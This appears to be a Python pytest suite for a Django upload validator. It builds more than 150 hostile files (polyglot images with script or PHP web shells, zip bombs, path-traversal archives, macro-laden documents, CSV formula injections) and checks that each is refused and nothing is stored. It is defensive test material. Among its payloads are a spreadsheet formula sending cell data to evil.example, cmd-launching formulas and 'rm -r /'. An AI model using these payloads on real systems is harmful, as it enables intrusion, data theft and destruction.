"""Files that would harm whoever opens them, the pages that show them or the machine that reads them.

Each is sent as a picture and as a file. Every one is refused with a sentence, and neither storage keeps anything.
"""

import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

from catalog.attachments import attach_file
from catalog.pictures import MAX_PICTURE_BYTES, add_picture
from catalog.uploads import MAX_JSON_BYTES
from marketplace.uploads import UploadRefused
from tests.catalog.upload_files import (
    RELATIONSHIP,
    Part,
    assemble,
    deflate,
    docx,
    encode,
    gif,
    gif_comment,
    jpeg,
    jpeg_segment,
    noise,
    pack,
    pdf,
    pdf_packed,
    png,
    png_chunk,
    unicode_path,
    xlsx,
)
from tests.factories import NOON, make_prompt

pytestmark = pytest.mark.django_db

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
PROGRAM = b"MZ\x90\0\x03" + bytes(59) + b"PE\0\0" + bytes(200)
JAR = pack({"META-INF/MANIFEST.MF": "Main-Class: A", "A.class": b"\xca\xfe\xba\xbe\0\0\0\x34"})
TEXTS = pack({"a.txt": "one", "b.txt": "two"})


@dataclass(frozen=True)
class Hostile:
    """words: of the sentence with which it is refused as a picture (`as_picture`) and as a file (`as_file`)."""

    name: str
    file_name: str
    make: Callable[[], bytes]
    as_file: str
    as_picture: str = "not a picture that we can read"

    def __str__(self):
        return self.name


def hostile_picture(name: str, file_name: str, make: Callable[[], bytes], words: str, as_file: str = "") -> Hostile:
    return Hostile(name, file_name, make, as_file or words, words)


UNREADABLE = "not a picture that we can read"
DAMAGED = "damaged"
HIDDEN_PAGE = "A web page or a script is hidden"
HIDDEN_FILE = "Another file is hidden"
BEHIND = "stands behind the picture"
BIG = "40 million pixels"
UNKNOWN = "Files of this kind cannot be offered"
ENDING = "ending of the name does not fit"
ODD = "packed in an unusual way"
RUNS = "a program, a script or a web page"
NESTED = "an archive within the archive"
PLACE = "outside its folder"
MACROS = "macros or embedded objects"
OUTSIDE = "loads something from elsewhere"
ACTIVE = "scripts, forms that send, or files inside"
NO_TEXT = "no plain text"
LIKE = "begins like a web page"


def make_quilt() -> bytes:
    """Two entries that share the same packed bytes: a few of them unpack to anything (D. Fifield, 2019)."""
    kernel = deflate(bytes(1000))
    inner = Part(b"b", bytes(1000), packed=kernel)
    header = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 33, 0, 0, 0, 1, 0)
    outer = Part(b"a", method=0, packed=b"", packed_size=len(header) + len(kernel), size=len(header) + len(kernel))
    return assemble(outer, inner)


def make_shared() -> bytes:
    one = Part(b"a.txt", b"one")
    return assemble(one, Part(b"a.txt", b"one", is_written=False, place=0), Part(b"c.txt", b"three"))


def make_many() -> bytes:
    """None of them alone is packed tightly enough to be remarkable."""
    data = bytes(4_000_000)
    packed = deflate(data)
    return assemble(*(Part(b"%d.txt" % number, data, packed=packed) for number in range(80)))


def make_miscounted() -> bytes:
    return TEXTS[:-14] + struct.pack("<2H", 1, 1) + TEXTS[-10:]


def make_hidden_entry() -> bytes:
    return assemble(Part(b"a.txt", b"one"), Part(b"evil.exe", PROGRAM, is_listed=False), Part(b"b.txt", b"two"))


def stretch_jpeg() -> bytes:
    plain = jpeg()
    at = plain.index(b"\xff\xc0") + 5
    return plain[:at] + struct.pack(">HH", 65_500, 65_500) + plain[at + 4 :]


def blank_avif() -> bytes:
    plain = encode(noise(), "AVIF")
    coded_at = plain.index(b"mdat") + 4
    return plain[:coded_at] + bytes(len(plain) - coded_at)


def make_many_scans() -> bytes:
    """Every further pass costs a decoder the whole picture again, and an attacker twenty bytes."""
    plain = encode(noise(), "JPEG", progressive=True)
    last = plain.rindex(b"\xff\xda")
    return plain[:-2] + plain[last:-2] * 1000 + plain[-2:]


def make_long_zip_behind() -> bytes:
    """The end record says nothing there, and the one before it everything."""
    archive = assemble(Part(b"a.txt"), before_end=b"PK\x06\x07" + bytes(16))
    return jpeg() + archive[:-14] + b"\xff" * 12 + b"\0\0"


def make_text_bomb() -> bytes:
    packed = zlib.compress(bytes(65 * 1024 * 1024))
    return png(extra=png_chunk(b"zTXt", b"c\0\0" + packed))


PICTURES = [
    hostile_picture("nothing at all", "a.png", lambda: b"", "is empty"),
    hostile_picture("a text as PNG", "a.png", lambda: b"not a picture at all", UNREADABLE),
    hostile_picture("a drawing", "a.svg", lambda: SVG, "SVG drawings cannot be used", UNKNOWN),
    hostile_picture("a drawing as PNG", "a.png", lambda: SVG, "SVG drawings cannot be used"),
    hostile_picture(
        "a drawing behind a prolog as JPEG", "a.jpg", lambda: b"<?xml version='1.0'?>\n<!-- -->" + SVG, "SVG"
    ),
    hostile_picture("a web page as WebP", "a.webp", lambda: HTML, UNREADABLE),
    hostile_picture("a program as JPEG", "a.jpg", lambda: PROGRAM, UNREADABLE),
    hostile_picture("a TIFF", "a.tiff", lambda: encode(noise(), "TIFF"), UNREADABLE, UNKNOWN),
    hostile_picture("a TIFF as PNG", "a.png", lambda: encode(noise(), "TIFF"), UNREADABLE),
    hostile_picture("an icon as PNG", "a.png", lambda: encode(noise((16, 16)), "ICO"), UNREADABLE),
    hostile_picture("a PostScript drawing as JPEG", "a.jpg", lambda: encode(noise(), "EPS"), UNREADABLE),
    hostile_picture("a bitmap that is a script", "a.png", lambda: b"BM/*" + bytes(50) + b"*/=1;alert(1)", UNREADABLE),
    hostile_picture(
        "a GIF whose width opens a comment", "a.gif", lambda: gif()[:6] + b"/*" + gif()[8:], "script", UNKNOWN
    ),
    hostile_picture("a GIF with a page in its comment", "a.gif", lambda: gif(gif_comment(HTML)), HIDDEN_PAGE, UNKNOWN),
    hostile_picture("a GIF with a script behind", "a.gif", lambda: gif() + b"/**/=1;alert(1)", BEHIND, UNKNOWN),
    hostile_picture(
        "a JPEG whose first length opens a comment",
        "a.jpg",
        lambda: jpeg(jpeg_segment(0xE1, bytes(0x2F28))),
        HIDDEN_PAGE,
    ),
    hostile_picture(
        "a JPEG with a script in its comment",
        "a.jpg",
        lambda: jpeg(jpeg_segment(0xFE, b"<ScRiPt>alert(1)")),
        HIDDEN_PAGE,
    ),
    hostile_picture(
        "a JPEG with PHP in its comment",
        "a.jpg",
        lambda: jpeg(jpeg_segment(0xFE, b"<?php system($_GET['c']);")),
        HIDDEN_PAGE,
    ),
    hostile_picture("a JPEG with a ZIP behind", "a.jpg", lambda: jpeg() + TEXTS, HIDDEN_FILE),
    hostile_picture("a JPEG with a ZIP of 64 bits behind", "a.jpg", make_long_zip_behind, HIDDEN_FILE),
    hostile_picture("a JPEG with a JAR behind", "a.jpg", lambda: jpeg() + JAR, HIDDEN_FILE),
    hostile_picture("a JPEG with a ZIP in its comment", "a.jpg", lambda: jpeg(jpeg_segment(0xFE, TEXTS)), HIDDEN_FILE),
    hostile_picture(
        "a JPEG with a RAR behind", "a.jpg", lambda: jpeg() + b"Rar!\x1a\x07\x01\0" + bytes(90), HIDDEN_FILE
    ),
    hostile_picture("a JPEG with a program behind", "a.jpg", lambda: jpeg() + PROGRAM, BEHIND),
    hostile_picture("a JPEG with a PDF behind", "a.jpg", lambda: jpeg() + pdf(), BEHIND),
    hostile_picture("a JPEG with a PDF in its comment", "a.jpg", lambda: jpeg(jpeg_segment(0xFE, pdf())), HIDDEN_FILE),
    hostile_picture("a PNG with a page behind", "a.png", lambda: png() + HTML, HIDDEN_PAGE),
    hostile_picture("a PNG with a bare script behind", "a.png", lambda: png() + b";alert(1)//", BEHIND),
    hostile_picture(
        "a PNG with a page in its text", "a.png", lambda: png(extra=png_chunk(b"tEXt", b"c\0<html >")), HIDDEN_PAGE
    ),
    hostile_picture("a PNG with a ZIP behind", "a.png", lambda: png() + TEXTS, HIDDEN_FILE),
    hostile_picture(
        "a PNG with a drawing in its text", "a.png", lambda: png(extra=png_chunk(b"tEXt", b"c\0" + SVG)), "SVG|hidden"
    ),
    hostile_picture(
        "a WebP with PHP behind", "a.webp", lambda: encode(noise(), "WEBP") + b"<?php phpinfo();", HIDDEN_PAGE
    ),
    hostile_picture("a WebP with bytes behind", "a.webp", lambda: encode(noise(), "WEBP") + b"more", BEHIND),
    hostile_picture(
        "an AVIF with half a box behind",
        "a.avif",
        lambda: encode(noise(), "AVIF") + b"\0\0\x09\0junk",
        DAMAGED,
        UNKNOWN,
    ),
    hostile_picture("half a JPEG", "a.jpg", lambda: jpeg()[:2000], DAMAGED),
    hostile_picture("a JPEG without its last two bytes", "a.jpg", lambda: jpeg()[:-2], DAMAGED),
    hostile_picture("half a PNG", "a.png", lambda: encode(noise(), "PNG")[:4000], DAMAGED),
    hostile_picture("a PNG without its end", "a.png", lambda: png()[:-12], DAMAGED),
    hostile_picture("half a WebP", "a.webp", lambda: encode(noise(), "WEBP")[:900], f"{DAMAGED}|{UNREADABLE}"),
    hostile_picture("half a GIF", "a.gif", lambda: encode(noise(), "GIF")[:3000], DAMAGED, UNKNOWN),
    hostile_picture(
        "half an AVIF", "a.avif", lambda: encode(noise(), "AVIF")[:-900], f"{DAMAGED}|{UNREADABLE}", UNKNOWN
    ),
    hostile_picture(
        "an AVIF with a box of three bytes behind",
        "a.avif",
        lambda: encode(noise(), "AVIF") + b"\0\0\0\x03abcdefgh",
        DAMAGED,
        UNKNOWN,
    ),
    hostile_picture("an AVIF without its lines", "a.avif", blank_avif, DAMAGED, UNKNOWN),
    hostile_picture("a JPEG of a thousand passes", "a.jpg", make_many_scans, DAMAGED),
    hostile_picture(
        "a PNG with a wrong checksum", "a.png", lambda: png()[:29] + b"0000" + png()[33:], f"{UNREADABLE}|{DAMAGED}"
    ),
    hostile_picture("a PNG whose lines are missing", "a.png", lambda: png(400, 400, rows=b"\0" * 90), DAMAGED),
    hostile_picture("a PNG of 49 megapixels", "a.png", lambda: png(7_000, 7_000, rows=b"\0"), BIG),
    hostile_picture("a PNG of 2.5 gigapixels", "a.png", lambda: png(50_000, 50_000, rows=b"\0"), BIG),
    hostile_picture("a PNG of 41 megapixels in one line", "a.png", lambda: png(41_000_000, 1, rows=b"\0"), BIG),
    hostile_picture(
        "a GIF of 4 gigapixels", "a.gif", lambda: gif()[:6] + b"\xff\xff\xff\xff" + gif()[10:], BIG, UNKNOWN
    ),
    hostile_picture("a JPEG of 4 gigapixels", "a.jpg", stretch_jpeg, BIG),
    hostile_picture("a PNG whose text unpacks to 65 MB", "a.png", make_text_bomb, f"{UNREADABLE}|{DAMAGED}"),
    hostile_picture("a picture above the limit", "a.png", lambda: png() + bytes(MAX_PICTURE_BYTES), "10 MB"),
]


ARCHIVES = [
    Hostile("a ZIP without anything", "a.zip", lambda: pack({}), ENDING),
    Hostile("a ZIP cut off", "a.zip", lambda: TEXTS[:-30], ODD),
    Hostile("a text as ZIP", "a.zip", lambda: b"hello", ENDING),
    Hostile("a RAR as ZIP", "a.zip", lambda: b"Rar!\x1a\x07\0" + bytes(90), ENDING),
    Hostile("a ZIP that is locked", "a.zip", lambda: assemble(Part(b"a.txt", flags=1)), "locked with a password"),
    Hostile("a ZIP of 5 MB in 5 KB", "a.zip", lambda: pack({"a.txt": bytes(5 * 1024 * 1024)}), "much too large"),
    Hostile(
        "a ZIP that claims 4 GB",
        "a.zip",
        lambda: assemble(*[Part(b"%d" % n, size=2**30, method=0, packed=b"") for n in range(4)]),
        "much too large",
    ),
    Hostile("a ZIP of 320 MB in many small files", "a.zip", make_many, "much too large"),
    Hostile("a ZIP that says it holds fewer files", "a.zip", make_miscounted, ODD),
    Hostile(
        "a ZIP that unpacks to more than it says",
        "a.zip",
        lambda: assemble(Part(b"a.txt", b"x", packed=deflate(bytes(10_000_000)))),
        ODD,
    ),
    Hostile(
        "a ZIP with more behind the packed stream",
        "a.zip",
        lambda: assemble(Part(b"a.txt", b"x", packed=deflate(b"x") + b"more")),
        ODD,
    ),
    Hostile("a ZIP of entries over each other", "a.zip", make_quilt, ODD),
    Hostile("a ZIP that lists an entry twice", "a.zip", make_shared, ODD),
    Hostile(
        "a ZIP with two files of one name",
        "a.zip",
        lambda: assemble(Part(b"a.txt", b"one"), Part(b"A.TXT", b"two")),
        ODD,
    ),
    Hostile("a ZIP with an entry that it does not list", "a.zip", make_hidden_entry, ODD),
    Hostile("a ZIP with two names for an entry", "a.zip", lambda: assemble(Part(b"a.txt", local_name=b"a.exe")), ODD),
    Hostile("a ZIP with a wrong checksum", "a.zip", lambda: assemble(Part(b"a.txt", crc=1)), ODD),
    Hostile("a ZIP packed by LZMA", "a.zip", lambda: pack({"a.txt": "x" * 99}, method=zipfile.ZIP_LZMA), ODD),
    Hostile(
        "a ZIP of 2,001 files", "a.zip", lambda: pack({f"{n}.txt": "" for n in range(2_001)}), "more than 2000 files"
    ),
    Hostile("a ZIP behind a program that unpacks it", "a.zip", lambda: PROGRAM + TEXTS, ENDING),
    Hostile("a ZIP behind another ZIP", "a.zip", lambda: TEXTS + JAR, ODD),
    Hostile("a ZIP with moved places", "a.zip", lambda: assemble(Part(b"a.txt"), prefix=b"PK\x03\x04 and more"), ODD),
    Hostile("a ZIP with a page behind", "a.zip", lambda: TEXTS + HTML, ODD),
    Hostile("a ZIP with a page as comment", "a.zip", lambda: assemble(Part(b"a.txt"), comment=HTML), ODD),
    Hostile(
        "a ZIP with a second directory in 64 bits",
        "a.zip",
        lambda: assemble(Part(b"a.txt"), before_end=b"PK\x06\x07" + bytes(16)),
        ODD,
    ),
    Hostile(
        "a ZIP whose last entry spells a record of 64 bits",
        "a.zip",
        lambda: assemble(Part(b"a.txt", extra=b"PK\x06\x07" + bytes(16))),
        ODD,
    ),
    Hostile("a ZIP in a ZIP", "a.zip", lambda: pack({"inner.zip": TEXTS}), NESTED),
    Hostile("a ZIP in a ZIP under another name", "a.zip", lambda: pack({"inner.dat": TEXTS}), NESTED),
    Hostile("an archive that we cannot look into in a ZIP", "a.zip", lambda: pack({"a.EGG": "EGGA"}), NESTED),
    Hostile("a gzip in a ZIP", "a.zip", lambda: pack({"a.bin": b"\x1f\x8b\x08\0rest"}), NESTED),
    Hostile("a ZIP that climbs out", "a.zip", lambda: pack({"../../etc/cron.d/x": "x"}), PLACE),
    Hostile("a ZIP that climbs out by backslashes", "a.zip", lambda: assemble(Part(b"..\\..\\x.txt")), PLACE),
    Hostile("a ZIP with an absolute path", "a.zip", lambda: pack({"/etc/passwd": "x"}), PLACE),
    Hostile("a ZIP with a drive", "a.zip", lambda: assemble(Part(b"C:\\x.txt")), PLACE),
    Hostile("a ZIP with a stream behind a colon", "a.zip", lambda: pack({"a.txt:b.exe": "x"}), PLACE),
    Hostile("a ZIP with a NUL in a name", "a.zip", lambda: assemble(Part(b"a.txt\0.exe")), f"{ODD}|{PLACE}"),
    Hostile("a ZIP with a name that reads backwards", "a.zip", lambda: pack({"photo\u202egpj.exe": "x"}), PLACE),
    Hostile(
        "a ZIP with a second, climbing name",
        "a.zip",
        lambda: assemble(Part(b"a.txt", extra=unicode_path("../a.txt"))),
        PLACE,
    ),
    Hostile(
        "a ZIP with a second, running name",
        "a.zip",
        lambda: assemble(Part(b"a.txt", extra=unicode_path("a.exe"))),
        ODD,
    ),
    Hostile(
        "a ZIP with a symbolic link", "a.zip", lambda: assemble(Part(b"a.txt", b"/etc/passwd", mode=0o120777)), PLACE
    ),
    Hostile("a ZIP with a device", "a.zip", lambda: assemble(Part(b"a.txt", mode=0o020666)), PLACE),
    Hostile("a ZIP with a program", "a.zip", lambda: pack({"tools/setup.exe": PROGRAM}), RUNS),
    Hostile("a ZIP with a program and a dot too many", "a.zip", lambda: pack({"setup.exe. ": PROGRAM}), RUNS),
    Hostile("a ZIP with a program as text", "a.zip", lambda: pack({"readme.txt": PROGRAM}), RUNS),
    Hostile("a ZIP with a program of Linux", "a.zip", lambda: pack({"run": b"\x7fELF\x02\x01\x01"}), RUNS),
    Hostile("a ZIP with a script of Windows", "a.zip", lambda: pack({"open me.js": "WScript.Echo(1)"}), RUNS),
    Hostile("a ZIP with a shortcut", "a.zip", lambda: pack({"open me.lnk": b"L\0\0\0"}), RUNS),
    Hostile("a ZIP with a web page", "a.zip", lambda: pack({"index.HTML": HTML}), RUNS),
    Hostile("a ZIP with a web page as text", "a.zip", lambda: pack({"index.txt": b"\xef\xbb\xbf \n" + HTML}), RUNS),
    Hostile("a ZIP with a drawing", "a.zip", lambda: pack({"logo.svg": SVG}), RUNS),
    Hostile(
        "a ZIP with an old Office document",
        "a.zip",
        lambda: pack({"a.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)}),
        "old Office",
    ),
    Hostile(
        "a ZIP with a document with macros",
        "a.zip",
        lambda: pack({"a.docx": docx({"word/vbaProject.bin": b"x"})}),
        MACROS,
    ),
    Hostile("a JAR as ZIP", "a.zip", lambda: JAR, RUNS),
    Hostile("an Android program as ZIP", "a.zip", lambda: pack({"AndroidManifest.xml": b"\x03\0", "x.txt": ""}), RUNS),
    Hostile("a folder with bytes of its own", "a.zip", lambda: assemble(Part(b"a/", b"hidden")), ODD),
    Hostile("a ZIP with a program in a folder that macOS runs", "a.zip", lambda: pack({"Open.app/run": "#!x"}), RUNS),
    Hostile("a document as ZIP", "a.zip", docx, "Give its name the ending"),
]

DOCUMENTS = [
    Hostile("a ZIP as DOCX", "a.docx", lambda: TEXTS, ENDING),
    Hostile("a workbook as DOCX", "a.docx", xlsx, ENDING),
    Hostile("a document with macros", "a.docm", lambda: docx(kind=b"x.macroEnabled.main"), UNKNOWN),
    Hostile("a document with macros as DOCX", "a.docx", lambda: docx(kind=b"x.macroEnabled.main"), MACROS),
    Hostile("a document with a macro project", "a.docx", lambda: docx({"word/vbaProject.bin": b"x"}), MACROS),
    Hostile(
        "a document with an object",
        "a.docx",
        lambda: docx({"word/embeddings/o.bin": b"\xd0\xcf\x11\xe0" + bytes(99)}),
        MACROS,
    ),
    Hostile("a document with ActiveX", "a.docx", lambda: docx({"word/activeX/activeX1.xml": b"<a/>"}), MACROS),
    Hostile(
        "a document with a template from the web",
        "a.docx",
        lambda: docx(
            {
                "word/_rels/settings.xml.rels": RELATIONSHIP
                % b'Type="http://x/relationships/attachedTemplate" Target="https://evil.example/" TargetMode="External"'
            }
        ),
        OUTSIDE,
    ),
    Hostile(
        "a document with a spelt-out template from the web",
        "a.docx",
        lambda: docx(
            {
                "word/_rels/settings.xml.rels": RELATIONSHIP
                % b'Type="http://x/attachedT&#101;mplate" TargetMode="External" Foo="&lt;" Target="&#104;ttp://evil/"'
            }
        ),
        OUTSIDE,
    ),
    Hostile(
        "a document with more relations than any needs",
        "a.docx",
        lambda: docx({f"word/_rels/{n}.rels": noise((1500, 1000)).tobytes().replace(b"\0", b" ") for n in range(2)}),
        "much too large",
    ),
    Hostile(
        "a document with an object from a share",
        "a.docx",
        lambda: docx(
            {
                "word/_rels/document.xml.rels": RELATIONSHIP
                % b"TargetMode='External' Target='\\\\evil\\x' Type='http://x/relationships/oleObject'"
            }
        ),
        OUTSIDE,
    ),
    Hostile(
        "a document with entities that grow",
        "a.docx",
        lambda: docx(
            {
                "word/styles.xml": b'<?xml version="1.0"?>'
                + b" " * 70_000
                + b'<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'
            }
        ),
        ODD,
    ),
    Hostile(
        "a document with a field that starts programs",
        "a.docx",
        lambda: docx(body=b'<w:instrText xml:space="preserve"> DDEAUTO c:\\\\x "y"</w:instrText>'),
        OUTSIDE,
    ),
    Hostile("a document with a web page in it", "a.docx", lambda: docx({"word/chunk.htm": HTML}), RUNS),
    Hostile("a document with a program in it", "a.docx", lambda: docx({"word/media/image1.png": PROGRAM}), RUNS),
    Hostile(
        "a document in a document in a document",
        "a.docx",
        lambda: docx({"word/a.docx": docx({"word/a.docx": docx({"word/a.docx": docx()})})}),
        NESTED,
    ),
    Hostile("a workbook with macros of old", "a.xlsx", lambda: xlsx({"xl/macrosheets/sheet1.xml": b"<x/>"}), MACROS),
    Hostile(
        "a workbook that asks programs",
        "a.xlsx",
        lambda: xlsx(
            {"xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'}
        ),
        OUTSIDE,
    ),
    Hostile("an old document as DOCX", "a.docx", lambda: b"\xd0\xcf\x11\xe0" + bytes(900), ENDING),
    Hostile("a PDF that is a text", "a.pdf", lambda: b"hello", ENDING),
    Hostile("a PDF that begins late", "a.pdf", lambda: b"<html>" + pdf(), ENDING),
    Hostile("a PDF cut off", "a.pdf", lambda: pdf()[:-60], "does not end where it should"),
    Hostile("a PDF with a page behind", "a.pdf", lambda: pdf(tail=HTML), "does not end where it should"),
    Hostile("a PDF with a ZIP behind", "a.pdf", lambda: pdf(tail=TEXTS), "does not end where it should"),
    Hostile(
        "a PDF with a ZIP within",
        "a.pdf",
        lambda: pdf(b"<< /Length 9 >>\nstream\n" + TEXTS + b"\nendstream"),
        "hidden in this PDF",
    ),
    Hostile("a PDF with a page in its head", "a.pdf", lambda: pdf(head=b"%" + HTML + b"\n"), "hidden in this PDF"),
    Hostile(
        "a PDF with a script",
        "a.pdf",
        lambda: pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>", catalogue=b"/OpenAction 4 0 R"),
        ACTIVE,
    ),
    Hostile("a PDF with a script spelt in numbers", "a.pdf", lambda: pdf(b"<< /S /J#61va#53cript /JS (x) >>"), ACTIVE),
    Hostile(
        "a PDF with a packed script",
        "a.pdf",
        lambda: pdf(pdf_packed(b"9 0 << /S /JavaScript /JS (app.alert(1)) >>")),
        ACTIVE,
    ),
    Hostile(
        "a PDF whose packed part cannot be unpacked",
        "a.pdf",
        lambda: pdf(b"<< /Type /ObjStm >>\nstream\nnot packed\nendstream"),
        "does not end where it should",
    ),
    Hostile(
        "a PDF with a packed script far behind its name",
        "a.pdf",
        lambda: pdf(pdf_packed(b"9 0 << /S /JavaScript /JS (x) >>", kind=b"/Type /ObjStm" + b" " * 3000)),
        "does not end where it should",
    ),
    Hostile(
        "a PDF whose packed parts unpack to 70 MB",
        "a.pdf",
        lambda: pdf(*[pdf_packed(bytes(10_000_000))] * 7),
        "too large to be looked through",
    ),
    Hostile("a PDF that starts a program", "a.pdf", lambda: pdf(b"<< /S /Launch /F (cmd.exe) >>"), ACTIVE),
    Hostile(
        "a PDF with a file inside",
        "a.pdf",
        lambda: pdf(b"<< /Type /Filespec /EF << /F 5 0 R >> >>", pdf_packed(PROGRAM, kind=b"/Type /EmbeddedFile")),
        ACTIVE,
    ),
    Hostile("a PDF that is locked", "a.pdf", lambda: pdf(trailer=b"/Encrypt 9 0 R"), "locked or restricted"),
]

TEXT_FILES = [
    Hostile("a web page as text", "a.txt", lambda: HTML, LIKE),
    Hostile("a web page behind a mark and blanks as text", "a.txt", lambda: b"\xef\xbb\xbf\r\n\t " + HTML, LIKE),
    Hostile("a drawing as Markdown", "a.md", lambda: SVG, LIKE, "SVG"),
    Hostile("PHP as text", "a.txt", lambda: b"<?php system('id');", LIKE),
    Hostile("a script as text", "a.txt", lambda: b"#!/bin/sh\nrm -r /\n", LIKE),
    Hostile("a program as text", "a.txt", lambda: PROGRAM, LIKE),
    Hostile("a PDF as text", "a.txt", pdf, LIKE),
    Hostile("a rich text as text", "a.txt", lambda: b"{\\rtf1\\ansi {\\object}}", LIKE),
    Hostile("a picture as text", "a.txt", lambda: png(), NO_TEXT, as_picture=""),
    Hostile("a text with a NUL", "a.txt", lambda: b"hello\0world", NO_TEXT),
    Hostile("a text with an escape sequence", "a.md", lambda: b"hello \x1b]0;x\x07", NO_TEXT),
    Hostile("a text in UTF-16", "a.txt", lambda: "안녕".encode("utf-16"), "UTF-16"),
    Hostile("a text that no encoding fits", "a.txt", lambda: b"hello \xff\xfe\xff", NO_TEXT),
    Hostile("a Markdown in CP949", "a.md", lambda: "안녕하세요".encode("cp949"), NO_TEXT),
    Hostile("a ZIP as CSV", "a.csv", lambda: TEXTS, NO_TEXT),
    Hostile("a CSV that starts a program", "a.csv", lambda: b"name,value\nx,=cmd|' /C calc'!A1\n", "start programs"),
    Hostile(
        "a CSV that starts a program late",
        "a.csv",
        lambda: b"a,b\n" * 20_000 + b"\"@SUM(1)*cmd|'/C calc'!A1\"\n",
        "start programs",
    ),
    Hostile(
        "a CSV that sends the table away",
        "a.csv",
        lambda: b'a,"=WEBSERVICE(""https://evil.example/""&A1)"\n',
        "start programs",
    ),
    Hostile("a JSON that is none", "a.json", lambda: b"{'a': 1}", "no JSON"),
    Hostile("a JSON that is deep", "a.json", lambda: b"[" * 200_000, "no JSON"),
    Hostile("a JSON above its limit", "a.json", lambda: b'["' + b"x" * MAX_JSON_BYTES + b'"]', "at most 5 MB"),
]

NAMES = [
    Hostile("a program", "setup.exe", lambda: PROGRAM, UNKNOWN),
    Hostile("a program with two endings", "photo.png.exe", lambda: PROGRAM, UNKNOWN),
    Hostile("a web page", "index.html", lambda: HTML, UNKNOWN),
    Hostile("a script", "a.js", lambda: b"alert(1)", UNKNOWN),
    Hostile("a shell script", "a.sh", lambda: b"#!/bin/sh\n", UNKNOWN),
    Hostile("a name without an ending", "README", lambda: b"hello", UNKNOWN),
    Hostile("a name that is an ending", ".txt", lambda: PROGRAM, LIKE),
    Hostile("a shortcut", "a.lnk", lambda: b"L\0\0\0\x01\x14\x02\0", UNKNOWN),
    Hostile("an old document", "a.doc", lambda: b"\xd0\xcf\x11\xe0" + bytes(900), UNKNOWN),
    Hostile("a disk image", "a.iso", lambda: bytes(40_000), UNKNOWN),
    Hostile("a saved object of Python", "model.pkl", lambda: b"\x80\x04.", UNKNOWN),
]

CORPUS = [*PICTURES, *ARCHIVES, *DOCUMENTS, *TEXT_FILES, *NAMES]


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


def list_stored(folder) -> list[str]:
    return sorted(str(path.relative_to(folder)) for path in folder.rglob("*"))


def test_the_corpus_is_as_large_as_it_claims():
    contents = {each.make() for each in CORPUS}

    assert len({each.name for each in CORPUS}) == len(CORPUS)
    assert len(contents) >= 150


@pytest.mark.parametrize("hostile", [each for each in CORPUS if each.as_picture], ids=str)
def test_it_is_refused_as_a_picture_and_nothing_is_stored(hostile, upload_folders):
    prompt = make_prompt(image_urls=["https://a.example/1.png"])
    before = list_stored(upload_folders)

    with pytest.raises(UploadRefused, match=hostile.as_picture):
        add_picture(prompt=prompt, upload=SimpleUploadedFile(hostile.file_name, hostile.make()), alt="", now=NOON)

    assert list_stored(upload_folders) == before
    prompt.refresh_from_db()
    assert prompt.image_urls == ["https://a.example/1.png"]


@pytest.mark.parametrize("hostile", CORPUS, ids=str)
def test_it_is_refused_as_a_file_and_nothing_is_stored(hostile, upload_folders):
    prompt = make_prompt()
    before = list_stored(upload_folders)

    with pytest.raises(UploadRefused, match=hostile.as_file):
        attach_file(prompt=prompt, upload=SimpleUploadedFile(hostile.file_name, hostile.make()), now=NOON)

    assert list_stored(upload_folders) == before
    prompt.refresh_from_db()
    assert prompt.file_url is None
    assert prompt.versions.count() == 1
